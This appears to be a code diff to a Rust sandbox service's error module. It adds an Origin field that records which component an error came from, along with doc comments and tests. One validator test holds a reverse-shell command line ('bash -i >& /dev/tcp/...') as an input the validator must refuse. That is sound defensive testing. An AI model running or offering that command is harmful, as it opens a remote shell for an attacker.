@@ -6,6 +6,36 @@
 //! proof that a sandbox is gone may replace a session's binding; everything else (including
 //! errors nobody classified) preserves it, because replacing a binding on a transient failure
 //! silently destroys a user's workspace.
+//!
+//! # Where an error came from
+//!
+//! Every error carries an [`Origin`]: the component that failed. It is data, set where the
+//! error is made, and it is the only thing that says "store or provider": the HTTP layer picks
+//! `store_unavailable` over `provider_unavailable` and the metric family by it, never by the
+//! operation's name.
+//!
+//! - [`Origin::Provider`]: set by [`Error::with_provider`] (and [`Error::from_http_status`]), so
+//!   every adapter that names itself on its errors says where they came from. A provider that
+//!   passes on a transport error claims it the same way.
+//! - [`Origin::Store`]: set by every binding store on every error it returns, including the
+//!   lifecycle lock's [`crate::ownership::ownership_lost`].
+//! - [`Origin::Transport`]: set by `sandbox-transport` on what it builds (a refused endpoint, a
+//!   failed dial, an envd client without a provider); a provider claims them at its boundary.
+//! - [`Origin::Caller`]: set by [`Error::invalid_input`], which the constructors in this crate
+//!   that validate what a request carries use, before any backend is involved: IDs (`ids`),
+//!   sandbox paths and the workspace's write rules (`path`, `policy::workspace`), exec specs with
+//!   their env names and timeouts (`exec`, `sandbox`), and the script validator (`policy`).
+//!   Validation of what was *not* caller input (configuration, stored bindings, timestamps) uses
+//!   [`Error::invalid_request`] and does not say Caller: the layer that read it knows where it
+//!   came from. (A provider that parses its own answers with these constructors, a container ID
+//!   say, re-labels a refusal with `with_provider`.)
+//! - [`Origin::Unspecified`]: nobody said. That is the service's own coordination code (the
+//!   lifecycle coordinator, the session manager) or a layer that did not classify. It is
+//!   reported like a provider's error, which is what every error that was not the store's has
+//!   always been reported as; a layer that knows better says so.
+//!
+//! A later builder replaces an earlier origin, like [`Error::with_operation`]: the last layer
+//! that handled the error knows most about whose it is.
 
 use std::fmt;
 use std::sync::Arc;
@@ -252,31 +282,32 @@ impl Operation {
         self.0
     }
 
-    pub const HEALTH: Operation = Operation("health");
-    pub const CREATE: Operation = Operation("create");
-    pub const CONNECT: Operation = Operation("connect");
-    pub const CONNECT_SESSION: Operation = Operation("connect_session");
-    pub const GET: Operation = Operation("get");
-    pub const LIST: Operation = Operation("list");
-    pub const DELETE: Operation = Operation("delete");
-    pub const EXEC: Operation = Operation("exec");
-    pub const WRITE_FILE: Operation = Operation("write_file");
-    pub const READ_FILE: Operation = Operation("read_file");
-    pub const LIST_DIR: Operation = Operation("list_dir");
-    pub const MAKE_DIR: Operation = Operation("make_dir");
-    pub const REMOVE: Operation = Operation("remove");
-    pub const STAT: Operation = Operation("stat");
-    pub const CREATE_SNAPSHOT: Operation = Operation("create_snapshot");
-    pub const DELETE_SNAPSHOT: Operation = Operation("delete_snapshot");
-    pub const LIST_SNAPSHOTS: Operation = Operation("list_snapshots");
-    pub const LIST_TEMPLATES: Operation = Operation("list_templates");
-    pub const ENSURE_TEMPLATE: Operation = Operation("ensure_template");
-    pub const OPEN_TERMINAL: Operation = Operation("open_terminal");
-    pub const TERMINAL_IO: Operation = Operation("terminal_io");
-    pub const DIAL_DESKTOP: Operation = Operation("dial_desktop");
-    pub const KEEP_ALIVE: Operation = Operation("keep_alive");
-    /// Parsing or validating caller input before any backend is involved.
-    pub const VALIDATE: Operation = Operation("validate");
+    pub const HEALTH: Operation = Operation::new("health");
+    pub const CREATE: Operation = Operation::new("create");
+    pub const CONNECT: Operation = Operation::new("connect");
+    pub const CONNECT_SESSION: Operation = Operation::new("connect_session");
+    pub const GET: Operation = Operation::new("get");
+    pub const LIST: Operation = Operation::new("list");
+    pub const DELETE: Operation = Operation::new("delete");
+    pub const EXEC: Operation = Operation::new("exec");
+    pub const WRITE_FILE: Operation = Operation::new("write_file");
+    pub const READ_FILE: Operation = Operation::new("read_file");
+    pub const LIST_DIR: Operation = Operation::new("list_dir");
+    pub const MAKE_DIR: Operation = Operation::new("make_dir");
+    pub const REMOVE: Operation = Operation::new("remove");
+    pub const STAT: Operation = Operation::new("stat");
+    pub const CREATE_SNAPSHOT: Operation = Operation::new("create_snapshot");
+    pub const DELETE_SNAPSHOT: Operation = Operation::new("delete_snapshot");
+    pub const LIST_SNAPSHOTS: Operation = Operation::new("list_snapshots");
+    pub const LIST_TEMPLATES: Operation = Operation::new("list_templates");
+    pub const ENSURE_TEMPLATE: Operation = Operation::new("ensure_template");
+    pub const OPEN_TERMINAL: Operation = Operation::new("open_terminal");
+    pub const TERMINAL_IO: Operation = Operation::new("terminal_io");
+    pub const DIAL_DESKTOP: Operation = Operation::new("dial_desktop");
+    pub const KEEP_ALIVE: Operation = Operation::new("keep_alive");
+    /// Parsing or validating input before it is used: a request's (origin [`Origin::Caller`]),
+    /// or a configuration's or a stored value's (whose origin the reading layer says).
+    pub const VALIDATE: Operation = Operation::new("validate");
 }
 
 impl fmt::Display for Operation {
@@ -285,19 +316,67 @@ impl fmt::Display for Operation {
     }
 }
 
+/// The component an error came from (see the [module docs](self#where-an-error-came-from)).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
+pub enum Origin {
+    /// A sandbox backend: its control plane, or its sandboxes' data plane (envd, an exec).
+    Provider(Provider),
+    /// The binding store: bindings, the lifecycle lock, turn leases, the rewind lock, the
+    /// activity registry.
+    Store,
+    /// The guarded outbound transport, for a failure no provider claimed: a refused endpoint, a
+    /// dial, TLS, an envd client that was not configured with a provider.
+    Transport,
+    /// The caller's request, refused by validation before any backend was involved.
+    Caller,
+    /// Not said: the service's own coordination code, or a layer that did not classify.
+    /// Reported like a provider's error.
+    #[default]
+    Unspecified,
+}
+
+impl Origin {
+    /// The name `Display` starts an error with: the provider's name, `store`, `transport`,
+    /// `caller`, or `sandbox` (the service itself) when unspecified.
+    pub fn label(self) -> &'static str {
+        match self {
+            Origin::Provider(p) => p.as_str(),
+            Origin::Store => "store",
+            Origin::Transport => "transport",
+            Origin::Caller => "caller",
+            Origin::Unspecified => "sandbox",
+        }
+    }
+
+    /// The provider, for [`Origin::Provider`].
+    pub fn provider(self) -> Option<Provider> {
+        match self {
+            Origin::Provider(p) => Some(p),
+            _ => None,
+        }
+    }
+}
+
+impl fmt::Display for Origin {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.label())
+    }
+}
+
 type Source = Arc<dyn std::error::Error + Send + Sync + 'static>;
 
-/// The error every port returns: kind, optional code, provider, operation, message, HTTP status
+/// The error every port returns: kind, optional code, origin, operation, message, HTTP status
 /// and the original cause.
 ///
-/// `Display` is one line without a trailing period, and never prints secrets: the message and
-/// the cause go through [`crate::diagnostics::scrub`], which removes line breaks and redacts
-/// credential-looking values, because error strings end up in logs.
+/// `Display` is one line without a trailing period, `<origin> <operation>: <kind>: <message>`
+/// (then `: <cause>`), the origin as [`Origin::label`] names it. It never prints secrets: the
+/// message and the cause go through [`crate::diagnostics::scrub`], which removes line breaks
+/// and redacts credential-looking values, because error strings end up in logs.
 #[derive(Clone)]
 pub struct Error {
     kind: ErrorKind,
     code: Option<ErrorCode>,
-    provider: Option<Provider>,
+    origin: Origin,
     operation: Operation,
     message: String,
     http_status: Option<u16>,
@@ -310,7 +389,7 @@ impl Error {
         Error {
             kind,
             code: None,
-            provider: None,
+            origin: Origin::Unspecified,
             operation,
             message: message.into(),
             http_status: None,
@@ -334,9 +413,15 @@ impl Error {
         .with_http_status(status)
     }
 
-    /// Caller-side input error, refused before any backend is involved.
+    /// Shorthand for [`ErrorKind::InvalidRequest`]: a request that is malformed or impossible.
+    /// It says nothing about whose input it was; [`Error::invalid_input`] is the caller's.
     pub fn invalid_request(operation: Operation, message: impl Into<String>) -> Self {
         Error::new(ErrorKind::InvalidRequest, operation, message)
+    }
+    /// The caller's input, refused by validation before any backend is involved:
+    /// `invalid_request` of [`Operation::VALIDATE`] from [`Origin::Caller`].
+    pub fn invalid_input(message: impl Into<String>) -> Self {
+        Error::invalid_request(Operation::VALIDATE, message).with_origin(Origin::Caller)
     }
     /// Shorthand for [`ErrorKind::NotFound`].
     pub fn not_found(operation: Operation, message: impl Into<String>) -> Self {
@@ -368,9 +453,14 @@ impl Error {
         self.code = Some(code);
         self
     }
-    /// Names the backend that produced the error.
-    pub fn with_provider(mut self, provider: Provider) -> Self {
-        self.provider = Some(provider);
+    /// Names the backend that produced the error: its origin becomes
+    /// [`Origin::Provider`]`(provider)`.
+    pub fn with_provider(self, provider: Provider) -> Self {
+        self.with_origin(Origin::Provider(provider))
+    }
+    /// Says which component the error came from, replacing what an earlier layer said.
+    pub fn with_origin(mut self, origin: Origin) -> Self {
+        self.origin = origin;
         self
     }
     /// Records the provider's HTTP status.
@@ -397,9 +487,13 @@ impl Error {
     pub fn code(&self) -> Option<ErrorCode> {
         self.code
     }
-    /// The backend that produced the error, when known.
+    /// The component the error came from.
+    pub fn origin(&self) -> Origin {
+        self.origin
+    }
+    /// The backend that produced the error, when its origin is a provider.
     pub fn provider(&self) -> Option<Provider> {
-        self.provider
+        self.origin.provider()
     }
     /// The operation that failed.
     pub fn operation(&self) -> Operation {
@@ -420,12 +514,16 @@ impl Error {
         self.kind.can_replace_binding()
     }
 
-    /// One log line: `<kind> op=<operation> http=<status> <message>`, scrubbed of secrets.
+    /// One log line: `<kind> origin=<origin> op=<operation> http=<status> [code=<code>]
+    /// <message>`, scrubbed of secrets.
     pub fn diagnostics(&self) -> String {
         let status = self
             .http_status
             .map_or_else(|| "-".to_owned(), |s| s.to_string());
-        let mut line = format!("{} op={} http={}", self.kind, self.operation, status);
+        let mut line = format!(
+            "{} origin={} op={} http={}",
+            self.kind, self.origin, self.operation, status
+        );
         if let Some(code) = self.code {
             line.push_str(" code=");
             line.push_str(code.as_str());
@@ -438,10 +536,10 @@ impl Error {
 
 impl fmt::Display for Error {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        let who = self.provider.map_or("sandbox", Provider::as_str);
         write!(
             f,
-            "{who} {}: {}: {}",
+            "{} {}: {}: {}",
+            self.origin,
             self.operation,
             self.kind,
             scrub(&self.message)
@@ -460,7 +558,7 @@ impl fmt::Debug for Error {
         f.debug_struct("Error")
             .field("kind", &self.kind)
             .field("code", &self.code)
-            .field("provider", &self.provider)
+            .field("origin", &self.origin)
             .field("operation", &self.operation.as_str())
             .field("http_status", &self.http_status)
             .field("message", &scrub(&self.message))
@@ -557,20 +655,100 @@ mod tests {
             "cube exec: unavailable: request failed: Authorization: Bearer [redacted]: connection reset by peer"
         );
         assert!(!text.contains('\n') && !text.ends_with('.'));
-        assert!(!format!("{e:?}").contains("sk-live-123"));
+        let debug = format!("{e:?}");
+        assert!(!debug.contains("sk-live-123"));
+        assert!(debug.contains("origin: Provider(Cube)"), "{debug}");
         assert_eq!(
             e.diagnostics(),
-            "unavailable op=exec http=503 request failed: Authorization: Bearer [redacted]"
+            "unavailable origin=cube op=exec http=503 request failed: Authorization: Bearer [redacted]"
         );
         let source = std::error::Error::source(&e).expect("cause retained");
         assert!(source.to_string().contains("connection reset"));
-        let coded =
-            Error::invalid_request(Operation::VALIDATE, "bad").with_code(ErrorCode::InvalidPath);
+        let coded = Error::invalid_input("bad").with_code(ErrorCode::InvalidPath);
         assert_eq!(
             coded.diagnostics(),
-            "invalid_request op=validate http=- code=invalid_path bad"
+            "invalid_request origin=caller op=validate http=- code=invalid_path bad"
         );
-        assert_eq!(coded.to_string(), "sandbox validate: invalid_request: bad");
+        assert_eq!(coded.to_string(), "caller validate: invalid_request: bad");
+    }
+
+    #[test]
+    fn display_names_the_origin_first() {
+        let check = |origin: Origin, want: &str| {
+            let e = Error::unavailable(Operation::GET, "down").with_origin(origin);
+            assert_eq!(e.to_string(), want, "{origin:?}");
+        };
+        check(
+            Origin::Provider(Provider::Docker),
+            "docker get: unavailable: down",
+        );
+        check(Origin::Store, "store get: unavailable: down");
+        check(Origin::Transport, "transport get: unavailable: down");
+        check(Origin::Caller, "caller get: unavailable: down");
+        // Unsaid is the service itself, as every error without a provider was shown before.
+        check(Origin::Unspecified, "sandbox get: unavailable: down");
+    }
+
+    #[test]
+    fn origin_is_a_field_the_builders_set() {
+        let plain = Error::internal(Operation::EXEC, "x");
+        assert_eq!(plain.origin(), Origin::Unspecified);
+        assert_eq!(plain.provider(), None);
+        // with_provider is the provider origin, so adapters that name themselves need no edit.
+        let docker = plain.clone().with_provider(Provider::Docker);
+        assert_eq!(docker.origin(), Origin::Provider(Provider::Docker));
+        assert_eq!(docker.provider(), Some(Provider::Docker));
+        // The last layer that says wins, and a non-provider origin has no provider.
+        let claimed = docker.with_origin(Origin::Store);
+        assert_eq!(claimed.origin(), Origin::Store);
+        assert_eq!(claimed.provider(), None);
+        let http = Error::from_http_status(Provider::E2b, Operation::GET, 503, "x");
+        assert_eq!(http.origin(), Origin::Provider(Provider::E2b));
+        let input = Error::invalid_input("bad id");
+        assert_eq!(
+            (input.kind(), input.operation(), input.origin()),
+            (
+                ErrorKind::InvalidRequest,
+                Operation::VALIDATE,
+                Origin::Caller
+            )
+        );
+        // invalid_request alone says nothing about whose input it was.
+        let request = Error::invalid_request(Operation::VALIDATE, "bad config");
+        assert_eq!(request.origin(), Origin::Unspecified);
+    }
+
+    /// The constructors that validate what a request carries say the caller; validation of
+    /// configuration does not.
+    #[test]
+    fn caller_input_validation_says_caller() {
+        use crate::exec::{ExecRequest, ExecSpec, ExecTimeout};
+        let spec = |json: &str| {
+            ExecRequest::try_from(serde_json::from_str::<ExecSpec>(json).unwrap()).unwrap_err()
+        };
+        let refusals = [
+            crate::ids::SessionId::new("a{b").unwrap_err(),
+            crate::ids::TenantId::new(0).unwrap_err(),
+            crate::path::SandboxPath::new("relative/path").unwrap_err(),
+            crate::path::SandboxPath::new("/a/../b").unwrap_err(),
+            spec(r#"{"command":"echo","shell":true,"args":["x"]}"#),
+            spec(r#"{"command":"env","env":{"A-B":"1"}}"#),
+            ExecTimeout::new(std::time::Duration::ZERO).unwrap_err(),
+            crate::policy::validator::ScriptValidator::new()
+                .validate_script("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
+                .into_result()
+                .unwrap_err(),
+            crate::policy::workspace::WorkspaceLayout::standard()
+                .check_model_write(&crate::path::SandboxPath::new("/etc").unwrap())
+                .unwrap_err(),
+        ];
+        for e in refusals {
+            assert_eq!(e.origin(), Origin::Caller, "{e}");
+            assert_eq!(e.operation(), Operation::VALIDATE, "{e}");
+            assert!(e.to_string().starts_with("caller validate: "), "{e}");
+        }
+        let config = crate::provider::SandboxType::parse("nope").unwrap_err();
+        assert_eq!(config.origin(), Origin::Unspecified, "{config}");
     }
 
     #[test]
